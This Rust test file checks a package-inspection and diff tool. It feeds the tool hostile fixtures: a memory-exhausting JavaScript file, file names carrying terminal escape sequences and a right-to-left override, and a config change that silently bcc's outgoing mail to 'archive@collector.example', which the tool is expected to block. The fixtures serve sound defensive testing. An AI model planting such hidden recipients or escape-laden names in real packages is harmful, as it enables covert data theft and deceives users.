//! The process that reads packages: whatever a package does to it, the rest is judged and nothing raw is shown.

use std::io::{Read, Write};
use std::process::{Command, Stdio};

use crate::support::{World, manifest, pack, read_tree};

#[test]
fn one_file_that_stops_the_reader_is_named_and_the_rest_is_read() {
    let world = World::new();
    // Its syntax tree takes more memory than the reader is given.
    let bomb = format!("x=[{}1]", "1,".repeat(6_000_000));
    world.folder(
        "poisoned",
        &[
            ("package.json", &manifest("1.0.0")),
            ("bomb.js", bomb.as_bytes()),
            ("first.js", b"module.exports = 1;\n"),
            ("zlast.js", b"module.exports = 2;\n"),
        ],
    );
    let json = world
        .check(&["check", "./poisoned", "--max-memory", "400MB", "--format", "json"], 1)
        .json();
    let package = &json["packages"][0];
    assert_eq!(package["counts"]["parsed"], 2, "{package}");
    assert_eq!(package["counts"]["code"], 3, "{package}");
    assert_eq!(package["complete"], false);
    let finding = &package["findings"][0];
    assert_eq!(finding["indicator"], "archive/unreadable-code");
    assert_eq!(finding["evidence"][0]["path"], "bomb.js");
}

#[test]
fn a_reader_whose_time_is_over_is_a_gap() {
    let world = World::new();
    let slow = format!("x=[{}1]", "1,".repeat(9_000_000));
    world.folder(
        "slow",
        &[("package.json", &manifest("1.0.0")), ("slow.js", slow.as_bytes())],
    );
    let ended = world
        .check(&["check", "./slow", "--max-time", "1s", "--format", "json"], 1)
        .json();
    assert_eq!(ended["packages"][0]["complete"], false);
    assert_eq!(ended["packages"][0]["findings"][0]["evidence"][0]["path"], "slow.js");
}

#[test]
fn names_that_a_terminal_would_obey_are_shown_escaped() {
    let world = World::new();
    let name = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}gnp.js";
    world.archive("old.tgz", &[("package.json", &manifest("1.0.0"))]);
    world.archive(
        "new.tgz",
        &[("package.json", &manifest("1.0.0")), (name, b"\x1b[31m = not code")],
    );
    for arguments in [
        &["check", "./new.tgz", "--verbose"][..],
        &["check", "./new.tgz", "--format", "json"],
        &["diff", "./old.tgz", "./new.tgz"],
        &["diff", "./old.tgz", "./new.tgz", "--stat"],
        &["check", "./\u{1b}[31mmissing"],
        &["check", "\u{1b}[31m"],
        &["explain", "\u{1b}[31m"],
    ] {
        let shown = world.run(arguments).all();
        let raw = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
        assert!(!shown.contains(raw), "{arguments:?}: {shown:?}");
    }
    let patch = world.check(&["diff", "./old.tgz", "./new.tgz", "--patch"], 0).stdout;
    let header = patch.lines().next().unwrap();
    assert!(!header.contains(char::is_control), "{header:?}");
}

#[test]
fn a_patch_makes_the_older_release_the_newer_one() {
    let world = World::new();
    let (first, second) = (manifest("1.0.0"), manifest("1.0.1"));
    let old: &[(&str, &[u8])] = &[
        ("package.json", &first),
        ("index.js", b"one\ntwo\nthree\n"),
        ("lib/gone.js", b"gone\n"),
        ("same.js", b"same"),
    ];
    let new: &[(&str, &[u8])] = &[
        ("package.json", &second),
        ("index.js", b"one\n2\nthree"),
        ("lib/new file.js", b"new\r\n"),
        ("same.js", b"same"),
    ];
    world.archive("old.tgz", old);
    world.folder("new", new);
    world.folder("tree", old);
    let patch = world.check(&["diff", "./old.tgz", "./new", "--patch"], 0).stdout;
    for program in [&["git", "apply"][..], &["patch", "-p1", "-s", "--binary"]] {
        world.folder(program[0], old);
        let mut child = Command::new(program[0])
            .args(&program[1..])
            .current_dir(world.path(program[0]))
            .env("GIT_CEILING_DIRECTORIES", world.path(""))
            .stdin(Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(patch.as_bytes()).unwrap();
        assert!(child.wait().unwrap().success(), "{program:?}\n{patch}");
        assert_eq!(
            read_tree(&world.path(program[0])),
            read_tree(&world.path("new")),
            "{program:?}"
        );
    }
    let stat = world.check(&["diff", "./old.tgz", "./new", "--stat"], 0).stdout;
    assert!(stat.ends_with(" 4 files differ, 4 lines added, 4 removed\n"), "{stat}");
}

#[test]
fn output_that_nobody_reads_any_more_ends_quietly() {
    let world = World::new();
    let line = b"module.exports = 1; // a line that is long enough to fill a pipe soon\n";
    world.archive("old.tgz", &[("package.json", &manifest("1.0.0"))]);
    world.archive(
        "new.tgz",
        &[("package.json", &manifest("1.0.0")), ("long.js", &line.repeat(20_000))],
    );
    for arguments in [
        &["diff", "./old.tgz", "./new.tgz", "--patch"][..],
        &["explain"],
        &["man"],
    ] {
        let mut child = world
            .command(arguments)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        drop(child.stdout.take());
        let mut stderr = String::new();
        child.stderr.take().unwrap().read_to_string(&mut stderr).unwrap();
        assert_eq!(
            (child.wait().unwrap().code(), stderr.as_str()),
            (Some(0), ""),
            "{arguments:?}"
        );
    }
}

#[test]
fn a_reader_that_is_told_nonsense_ends_without_a_word() {
    let world = World::new();
    for bytes in [
        &b""[..],
        b"\x01\xff\xff\xff\xff",
        b"\x01\x01\0\0\0\x63",
        b"GET / HTTP/1.1\r\n\r\n",
    ] {
        let mut child = world
            .command(&["__reader", "1073741824", "10"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(bytes).unwrap();
        let output = child.wait_with_output().unwrap();
        let status = if bytes.is_empty() { 0 } else { 70 };
        assert_eq!(
            (output.status.code(), output.stderr.as_slice()),
            (Some(status), &b""[..]),
            "{bytes:?}"
        );
        // It said that it is sealed, and nothing else.
        assert!(output.stdout.len() < 64, "{:?}", output.stdout);
    }
}

#[test]
fn an_identical_release_differs_in_nothing() {
    let world = World::new();
    let files: &[(&str, &[u8])] = &[
        ("package.json", &manifest("1.0.0")),
        ("index.js", b"fetch('https://a.example/');\n"),
    ];
    world.write("a.tgz", pack(files));
    world.folder("a", files);
    let json = world.check(&["diff", "./a.tgz", "./a", "--format", "json"], 0).json();
    let change = &json["packages"][0]["change"];
    assert_eq!(change["gained"].as_array().map(Vec::len), Some(0), "{change}");
    assert_eq!(change["files"]["changed"].as_array().map(Vec::len), Some(0), "{change}");
}

#[test]
fn a_recipient_that_a_changed_file_gives_to_an_unchanged_one_is_found() {
    let index = b"const nodemailer = require('nodemailer');
const { COPY } = require('./config');
exports.send = (options) => nodemailer.createTransport({}).sendMail({ to: options.to, text: options.text, bcc: COPY });
";
    let check = |copy: &str, status: i32| {
        let world = World::new();
        for (name, version, copy) in [("old.tgz", "1.0.0", "undefined"), ("new.tgz", "1.0.1", copy)] {
            let config = format!("exports.COPY = {copy};\n");
            world.archive(
                name,
                &[
                    ("package.json", &manifest(version)),
                    ("config.js", config.as_bytes()),
                    ("index.js", index),
                ],
            );
        }
        world
            .check(&["diff", "./old.tgz", "./new.tgz", "--format", "json"], status)
            .json()["packages"][0]
            .clone()
    };
    let found = check("'archive@collector.example'", 1);
    assert_eq!(found["decision"], "block", "{found}");
    let finding = &found["findings"][0];
    assert_eq!(finding["indicator"], "recipients/hidden-copy");
    assert_eq!(finding["evidence"][0]["path"], "index.js");
    let clean = check("null", 0);
    assert_eq!(clean["decision"], "allow", "{clean}");
}

#[test]
fn lines_of_a_release_too_large_to_be_kept_are_still_compared() {
    let world = World::new();
    // Large enough that the older side is let go while the newer is read.
    let table: String = (0..900_000_u32).map(|line| format!("row {line:x}\n")).collect();
    assert!(table.len() > 8 << 20);
    for (name, version, answer) in [("old.tgz", "1.0.0", "41"), ("new.tgz", "1.0.1", "42")] {
        let index = format!("exports.answer = {answer};\n");
        world.archive(
            name,
            &[
                ("package.json", &manifest(version)),
                ("index.js", index.as_bytes()),
                ("table.txt", table.as_bytes()),
            ],
        );
    }
    let shown = world.check(&["diff", "./old.tgz", "./new.tgz"], 0).stdout;
    assert!(shown.contains("- exports.answer = 41;"), "{shown}");
    assert!(shown.contains("+ exports.answer = 42;"), "{shown}");
    assert!(shown.contains("2 changed, 1 the same"), "{shown}");
}
